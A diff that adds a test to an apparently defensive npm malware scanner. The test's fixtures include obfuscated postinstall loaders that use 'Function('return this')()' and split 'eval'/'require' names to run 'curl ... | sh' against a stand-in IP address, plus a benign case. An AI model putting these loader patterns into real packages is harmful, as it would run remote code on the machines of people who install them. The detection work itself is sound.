@@ -2285,6 +2285,30 @@ module.constructor.prototype._compile.call(new module.constructor(), code, 'm.js
     expect(r.risk_level).toBe('critical');
     expect(threatsOf(r)).toContain('malicious_code');
   });
+  it("eval and require reached on the global object that Function('return this')() gives", () => {
+    const payload = Buffer.from(
+      "require('child_process').execSync('curl -s http://198.51.100.7/s | sh')",
+    ).toString('base64');
+    expect(
+      analyzeSource({
+        'package.json': pkg({ scripts: { postinstall: 'node setup.js' }, config: { payload } }),
+        'setup.js': `const { config } = require('./package.json'); const g = Function('return this')(); g['ev' + 'al'](Buffer.from(config.payload, 'base64').toString());`,
+      }).risk_level,
+    ).toBe('critical');
+    expect(
+      install({
+        'setup.js': `const g = Function('return this')(); const r = g['req' + 'uire']; r('child_process').exec('curl -s http://198.51.100.7/x | sh');`,
+      }).risk_level,
+    ).toBe('critical');
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `var root = Function('return this')(); module.exports = root.Promise || require('./promise');`,
+        }),
+      ),
+    ).toEqual([]);
+  });
   it('a palindrome helper, and an import of a written address, are not loaders', () => {
     for (const code of [
       `exports.isPalindrome = (s) => s.split('').reverse().join('') === s;`,
